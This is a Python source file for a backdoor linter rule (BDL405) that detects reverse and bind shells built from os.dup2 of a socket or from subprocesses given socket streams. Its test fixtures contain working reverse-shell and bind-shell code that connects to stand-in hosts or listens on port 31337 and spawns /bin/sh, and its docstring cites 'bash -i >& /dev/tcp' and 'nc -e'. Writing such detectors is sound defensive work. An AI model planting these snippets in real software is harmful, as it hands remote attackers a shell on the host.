"""BDL405 in Python code itself: a reverse (or bind) shell — this process's standard input and
output bound to a network socket, so that whatever runs next (`pty.spawn("/bin/sh")`, a
subprocess, an interpreter loop) is driven by the other end of the connection.

Two shapes, wherever they are written (module level, a function, a method, a lambda, a thread's
target), through any import alias: `os.dup2(<socket>.fileno(), 0|1|2)`, and a process started with
a socket (or its file descriptor) as its stdin, stdout or stderr. What counts as a socket is a value
that comes from `socket.socket()`, `socket.create_connection()`, `socket.fromfd()`, an `accept()`
of one, or a TLS wrapping of one, followed through assignments. The shell commands that do the same
from a command line (`bash -i >& /dev/tcp/...`, `nc -e`) are the shell analysis's (py_shell)."""
from __future__ import annotations

import libcst as cst
from backdoor_lint.checkers.base import Invalid, PythonChecker, Valid
from backdoor_lint.checkers.origins import walk
from backdoor_lint.checkers.tree import visit_tree
from backdoor_lint.checkers.triggers import reverse_shell as trigger
from backdoor_lint.checkers.triggers.reverse_shell import DUP2, PROCESS_STARTERS, STREAMS

SOCKET_MAKERS = {"socket.socket", "socket.create_connection", "socket.fromfd", "socket.socketpair",
                 "socket.create_server", "socket.socket.accept", "socket.create_server.accept",
                 "socket.socket.dup", "ssl.wrap_socket", "ssl.SSLContext.wrap_socket",
                 "ssl.create_default_context.wrap_socket", "_socket.socket", "socket.SocketType"}
STANDARD_FDS = {0: "stdin", 1: "stdout", 2: "stderr"}


class ReverseShell(trigger.ReverseShell, PythonChecker):
    CODES = ("BDL405",)

    def __init__(self, context) -> None:
        super().__init__(context)
        self._call_index: dict[str, list[cst.Call]] | None = None
        self._reported: set[tuple[int, str, int]] = set()

    def visit_Call(self, node: cst.Call) -> None:
        names = self.qualnames(node.func)
        if not names:
            return
        if names & DUP2 and len(node.args) >= 2:
            self._dup2(node)
        elif names & PROCESS_STARTERS:
            self._process(node, sorted(names & PROCESS_STARTERS)[0])

    def _dup2(self, call: cst.Call) -> None:
        source, target = call.args[0].value, call.args[1].value
        socket = self._socket(source)
        if socket is None:
            return
        targets = self.evaluator.values(target)
        stream = next((STANDARD_FDS[t] for t in targets if type(t) is int and t in STANDARD_FDS), None)
        if stream is None:
            stream = self._std_stream(target)
        if targets and stream is None:
            return  # duplicated onto a known descriptor that is not a standard stream
        onto = f"this process's {stream}" if stream else f"descriptor `{self.context.code(target)}`"
        scope = (id(self.context.enclosing(call, (cst.FunctionDef, cst.Lambda))), socket,
                 self.context.position(call).start.line)
        if scope in self._reported:
            return  # one finding per socket and line, not one per descriptor
        self._reported.add(scope)
        self.report(call, "BDL405", (
            f"{self.context.code(call.func)}() puts the network socket `{socket}` in place of {onto}: whatever "
            "this process runs next (a shell, pty.spawn, an interpreter) reads its commands from and writes its "
            "output to the other end of the connection, a reverse shell. Remote administration belongs in SSH "
            "or an authenticated API, not in application code"))

    def _process(self, call: cst.Call, label: str) -> None:
        bound = []
        for stream in STREAMS:
            value = self.argument(call, stream)
            if value is None:
                continue
            socket = self._socket(value)
            if socket is not None:
                bound.append(stream)
        if bound:
            self.report(call, "BDL405", (
                f"{label}() starts a process whose {' and '.join(bound)} is the network socket `{socket}`: the "
                "other end of the connection types its commands and reads their output, a reverse shell. "
                "Remote administration belongs in SSH or an authenticated API, not in application code"))

    def _socket(self, expression: cst.BaseExpression, depth: int = 0) -> str | None:
        """The code of the socket `expression` is (or is the file descriptor of), else None. Names
        are followed to their values, parameters of this module's functions to the arguments of
        their calls (a helper `bind(sock)`), two calls deep."""
        shown = self.context.code(expression.func.value if _fileno(expression) else expression)  # type: ignore[union-attr]
        for node in walk(self.context, expression, budget=400):
            if isinstance(node, (cst.Call, cst.Name, cst.Attribute)) and self.qualnames(node) & SOCKET_MAKERS:
                return shown
            if isinstance(node, cst.Name) and depth < 2:
                for argument in self._arguments(node):
                    if self._socket(argument, depth + 1):
                        return shown
        return None

    def _arguments(self, name: cst.Name) -> list[cst.BaseExpression]:
        """What the calls of this module pass to the parameter `name` is bound to."""
        found = []
        for binding in self.context.assignments(name):
            param = binding.node
            function = self.context.enclosing(param, (cst.FunctionDef, cst.Lambda)) if isinstance(param, cst.Param) \
                else None
            if function is None:
                continue
            params = list(function.params.params)
            index = next((i for i, p in enumerate(params) if p is param), None)
            if index is not None and params and params[0].name.value in ("self", "cls"):
                index -= 1
            title = function.name.value if isinstance(function, cst.FunctionDef) else self._lambda_name(function)
            for call in self._calls().get(title or "", []):
                argument = self.argument(call, param.name.value, index if index is not None and index >= 0 else None)
                if argument is not None:
                    found.append(argument)
        return found[:8]

    def _lambda_name(self, function: cst.Lambda) -> str | None:
        parent = self.context.parent(function)
        if isinstance(parent, cst.Assign) and len(parent.targets) == 1 and isinstance(parent.targets[0].target, cst.Name):
            return parent.targets[0].target.value
        return None

    def _calls(self) -> dict[str, list[cst.Call]]:
        if self._call_index is None:
            index: dict[str, list[cst.Call]] = {}

            class Indexer(cst.CSTVisitor):
                def visit_Call(self, node: cst.Call) -> None:
                    func = node.func
                    name = func.value if isinstance(func, cst.Name) else func.attr.value \
                        if isinstance(func, cst.Attribute) else None
                    if name:
                        index.setdefault(name, []).append(node)

            visit_tree(self.context.module, Indexer())
            self._call_index = index
        return self._call_index

    def _std_stream(self, expression: cst.BaseExpression) -> str | None:
        """`sys.stdout.fileno()`, `sys.stdin`: the standard stream named."""
        for node in walk(self.context, expression, budget=50):
            for name in self.qualnames(node) if isinstance(node, (cst.Attribute, cst.Name)) else ():
                for stream in STREAMS:
                    if name in (f"sys.{stream}", f"sys.__{stream}__"):
                        return stream
        return None

    VALID = [
        # a socket server that echoes what it receives: no process, no descriptor swapped
        Valid('import socket\ndef serve(port):\n    s = socket.create_server(("127.0.0.1", port))\n'
              '    conn, _ = s.accept()\n    while data := conn.recv(1024):\n        conn.sendall(data)\n', "BDL405"),
        # pty.spawn of a local program, no socket anywhere
        Valid('import pty\ndef record(logfile):\n    pty.spawn(["script", "-q", logfile])\n', "BDL405"),
        # dup2 for log redirection to a file
        Valid('import os, sys\ndef redirect(path):\n    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND)\n'
              '    os.dup2(fd, sys.stdout.fileno())\n    os.dup2(fd, 2)\n', "BDL405"),
        # a subprocess reading a pipe and writing a file
        Valid('import subprocess\ndef run(cmd, log):\n    with open(log, "wb") as out:\n'
              '        return subprocess.run(cmd, stdin=subprocess.DEVNULL, stdout=out, stderr=subprocess.STDOUT)\n',
              "BDL405"),
        # a socket's descriptor duplicated to a descriptor that is no standard stream (fd passing)
        Valid('import os, socket\ndef keep(sock: socket.socket):\n    s = socket.socket()\n    os.dup2(s.fileno(), 10)\n',
              "BDL405"),
    ]
    INVALID = [
        Invalid('import socket, os, pty\ndef connect(host, port):\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n'
                '    s.connect((host, port))\n    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n'
                '    pty.spawn("/bin/sh")\n', "BDL405", 6),
        # aliased imports, create_connection, a method, the descriptor held in a variable
        Invalid('from os import dup2 as d\nfrom socket import create_connection as cc\nclass Agent:\n'
                '    def attach(self):\n        self.c = cc(("ops.example", 443))\n        fd = self.c.fileno()\n'
                '        d(fd, 0)\n', "BDL405", 7),
        Invalid('import socket, os\nhandle = lambda s: [os.dup2(s.fileno(), i) for i in range(3)]\n'
                'handle(socket.create_connection(("h.example", 9)))\n', "BDL405", 2),
        # a helper that takes the connection, reached through another helper
        Invalid('import os, pty, socket\ndef _bind(conn):\n    for fd in range(3):\n        os.dup2(conn.fileno(), fd)\n'
                'def _attach(c):\n    _bind(c)\n    pty.spawn("sh")\ndef main():\n'
                '    _attach(socket.create_connection(("ops.example", 8443)))\n', "BDL405", 4),
        # a bind shell: the accepted connection, in a thread target
        Invalid('import socket, os, threading, subprocess\ndef serve():\n    srv = socket.socket()\n'
                '    srv.bind(("0.0.0.0", 31337))\n    srv.listen(1)\n    conn, _ = srv.accept()\n'
                '    subprocess.call(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())\n'
                'threading.Thread(target=serve, daemon=True).start()\n', "BDL405", 7),
        Invalid('import socket as so, subprocess as sp\ns = so.socket()\ns.connect(("10.1.2.3", 4444))\n'
                'sp.Popen(["/bin/bash"], stdin=s, stdout=s, stderr=s)\n', "BDL405", 4),
        Invalid('import os, socket, sys\ndef f():\n    s = socket.create_connection(("h.example", 1))\n'
                '    os.dup2(s.fileno(), sys.stdin.fileno())\n', "BDL405", 4),
    ]


def _fileno(expression: cst.BaseExpression) -> bool:
    return isinstance(expression, cst.Call) and isinstance(expression.func, cst.Attribute) \
        and expression.func.attr.value == "fileno"
